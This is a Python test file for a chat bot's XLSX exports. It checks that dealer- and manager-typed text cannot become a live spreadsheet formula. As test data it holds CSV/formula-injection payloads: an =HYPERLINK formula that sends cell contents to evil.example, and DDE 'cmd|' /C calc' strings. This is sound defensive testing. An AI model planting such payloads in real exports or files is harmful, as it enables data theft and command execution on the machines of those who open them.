"""Text typed by dealers and managers is text in every export, never a live formula."""

from __future__ import annotations

import io
import sqlite3

from openpyxl import load_workbook
from sqlalchemy import delete, update

from handlers.core.conversation import Conversation
from handlers.core.messages import Reply
from handlers.core.options import CoreOptions
from storage.models import DealerRow, OutboxRow
from tests.support import Chat, invite, seed_catalog

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'


def chats(uow_factory, clock) -> tuple[Chat, Chat]:
    seed_catalog(uow_factory)
    conv = Conversation(uow_factory, clock)
    dealer, boss = Chat(conv, "d1"), Chat(conv, "boss")
    dealer.say(f"/start {invite(uow_factory, clock, dealer='D001')}")
    boss.say(f"/start {invite(uow_factory, clock, manager='M01')}")
    return dealer, boss


def cells(chat: Chat, command: str) -> dict[str, object]:
    """Header -> cell of the first data row, from the XLSX file as Excel would open it."""
    [reply] = chat.send(command)
    assert reply.document is not None, reply.text
    ws = load_workbook(io.BytesIO(reply.document.content)).active
    return {h.value: c for h, c in zip(ws[1], ws[2], strict=True)}


def assert_inert(cell, text: str) -> None:
    assert cell.data_type == "s", (cell.value, cell.data_type)
    assert cell.value == "'" + text


def test_a_dealer_name_starting_with_equals_is_a_text_cell_in_the_sales_export(uow_factory, clock):
    dealer, boss = chats(uow_factory, clock)
    with uow_factory() as uow:
        uow.session.execute(update(DealerRow).where(DealerRow.code == "D001").values(name=FORMULA))
        uow.commit()
    dealer.say("/report A100 2 3500 T-0001")
    row = cells(boss, "/export sales 2026-07")
    assert_inert(row["经销商"], FORMULA)


def test_a_complaint_written_as_a_formula_is_a_text_cell_in_the_complaints_export(
    uow_factory, clock
):
    dealer, boss = chats(uow_factory, clock)
    dealer.say("/complaint")
    dealer.press("质量问题")
    dealer.say("@SUM(1+1)*cmd|' /C calc'!A0")
    dealer.say("A100")
    dealer.say(FORMULA)
    dealer.press("跳过")
    assert "C00001" in dealer.press("普通")
    row = cells(boss, "/export complaints 2026-07")
    assert_inert(row["问题描述"], FORMULA)
    assert_inert(row["客户"], "@SUM(1+1)*cmd|' /C calc'!A0")


def test_a_manager_note_starting_with_minus_is_a_text_cell_in_the_violations_export(
    uow_factory, clock
):
    dealer, boss = chats(uow_factory, clock)
    dealer.say("/report A100 1 2500 T-0001")
    dealer.press("确定")  # asked again, being far under the floor
    boss.say("/violation 1 confirm -2+3+cmd|' /C calc'!A0")
    row = cells(boss, "/export violations 2026-07")
    assert_inert(row["备注"], "-2+3+cmd|' /C calc'!A0")


def test_a_large_export_is_answered_at_once_and_its_file_follows_through_the_outbox(
    uow_factory, clock
):
    seed_catalog(uow_factory)
    conv = Conversation(uow_factory, clock, CoreOptions(export_inline_rows=1))
    dealer, boss = Chat(conv, "d1"), Chat(conv, "boss")
    dealer.say(f"/start {invite(uow_factory, clock, dealer='D001')}")
    boss.say(f"/start {invite(uow_factory, clock, manager='M01')}")
    dealer.say("/report A100 2 3500 T-0001")
    dealer.say("/report A100 3 3600 T-0001")

    [reply] = boss.send("/export sales 2026-07")

    assert (
        reply.document is None and "共 2 行" in reply.text and "/export sales 2026-07" in reply.text
    )
    conv.background.join()
    with uow_factory() as uow:
        [item] = [i for i in uow.outbox.list(limit=50) if i.chat_id == "boss"]
    sent = Reply.from_dict(item.payload)
    assert sent.document is not None and sent.document.filename == "sales-2026-07.xlsx"
    ws = load_workbook(io.BytesIO(sent.document.content)).active
    assert [c.value for c in ws["E"][1:]] == [2, 3]  # qty column, both rows


def test_an_export_over_the_row_limit_is_refused_with_shorter_periods_to_ask_for(
    uow_factory, clock
):
    seed_catalog(uow_factory)
    conv = Conversation(uow_factory, clock, CoreOptions(export_max_rows=2))
    dealer, boss = Chat(conv, "d1"), Chat(conv, "boss")
    dealer.say(f"/start {invite(uow_factory, clock, dealer='D001')}")
    boss.say(f"/start {invite(uow_factory, clock, manager='M01')}")
    for qty in (2, 3, 4):
        dealer.say(f"/report A100 {qty} 3500 T-0001")

    [year] = boss.send("/export sales 2026")
    [month] = boss.send("/export sales 2026-07")

    assert year.document is None and "超过 2 行" in year.text
    assert "/export sales 2026-Q1" in year.text and "/export sales 2026-Q4" in year.text
    assert month.document is None and "[exports] max_rows" in month.text
    boss.say("/lang en")
    [quarter] = boss.send("/export sales 2026-Q3")
    assert "more than 2 rows" in quarter.text and "/export sales 2026-07" in quarter.text
    # Within the limit the same export is a file.
    wide = Conversation(uow_factory, clock, CoreOptions(export_max_rows=3))
    [ok] = Chat(wide, "boss").send("/export sales 2026-07")
    assert ok.document is not None


def test_a_large_export_reads_its_rows_without_holding_up_a_report_sent_meanwhile(
    db, uow_factory, clock, monkeypatch
):
    """The background file is read in a transaction that only reads: on SQLite a write
    from another connection goes through while the rows stream (with no wait allowed)."""
    import handlers.core.exports as exports

    seed_catalog(uow_factory)
    conv = Conversation(uow_factory, clock, CoreOptions(export_inline_rows=1))
    dealer, boss = Chat(conv, "d1"), Chat(conv, "boss")
    dealer.say(f"/start {invite(uow_factory, clock, dealer='D001')}")
    boss.say(f"/start {invite(uow_factory, clock, manager='M01')}")
    for qty in (2, 3, 4):
        dealer.say(f"/report A100 {qty} 3500 T-0001")
    wrote: list[str] = []
    real = exports.workbook

    def write_meanwhile() -> None:
        if db.backend == "sqlite":
            # A connection of its own that fails when locked instead of waiting (the pool's
            # keep their busy timeout: a pooled one changed here would fail later tests).
            raw = sqlite3.connect(db.engine.url.database, timeout=0, isolation_level=None)
            try:
                raw.execute("UPDATE dealers SET phone = '1' WHERE code = 'D001'")
            finally:
                raw.close()
        else:
            with db.engine.begin() as conn:
                conn.execute(update(DealerRow).where(DealerRow.code == "D001").values(phone="1"))
        wrote.append("yes")

    def tapped(kind, header, rows):
        def stream():
            for i, row in enumerate(rows):
                if i == 1:
                    write_meanwhile()
                yield row

        return real(kind, header, stream())

    monkeypatch.setattr(exports, "workbook", tapped)
    [reply] = boss.send("/export sales 2026-07")
    conv.background.join()

    assert reply.document is None and "共 3 行" in reply.text
    assert wrote == ["yes"]
    with uow_factory() as uow:
        [item] = [i for i in uow.outbox.list(limit=50) if i.chat_id == "boss"]
    sent = Reply.from_dict(item.payload)
    assert sent.document is not None, sent.text
    ws = load_workbook(io.BytesIO(sent.document.content)).active
    assert [c.value for c in ws["E"][1:]] == [2, 3, 4]


def test_a_large_export_counts_what_its_file_holds_and_says_so_when_it_grew_past_the_limit(
    uow_factory, clock, monkeypatch
):
    seed_catalog(uow_factory)
    options = CoreOptions(export_inline_rows=1, export_max_rows=3)
    conv = Conversation(uow_factory, clock, options)
    dealer, boss = Chat(conv, "d1"), Chat(conv, "boss")
    dealer.say(f"/start {invite(uow_factory, clock, dealer='D001')}")
    boss.say(f"/start {invite(uow_factory, clock, manager='M01')}")
    dealer.say("/report A100 2 3500 T-0001")
    dealer.say("/report A100 3 3500 T-0001")
    held: list = []
    monkeypatch.setattr(
        conv.background, "submit", lambda name, job, failed: held.append(job) or True
    )

    def run_held() -> Reply:
        with uow_factory() as uow:
            held.pop()(uow)
            uow.commit()
        with uow_factory() as uow:
            [item] = [i for i in uow.outbox.list(limit=50) if i.chat_id == "boss"]
            uow.session.execute(delete(OutboxRow))
            uow.commit()
        return Reply.from_dict(item.payload)

    [first] = boss.send("/export sales 2026-07")
    dealer.say("/report A100 4 3500 T-0001")  # after the count, before the file
    sent = run_held()
    assert "共 2 行" in first.text and sent.document is not None and "共 3 行" in sent.text
    ws = load_workbook(io.BytesIO(sent.document.content)).active
    assert [c.value for c in ws["E"][1:]] == [2, 3, 4]

    boss.send("/export sales 2026-07")
    dealer.say("/report A100 5 3500 T-0001")  # now past export_max_rows (3)
    refused = run_held()
    assert refused.document is None and "超过 3 行" in refused.text
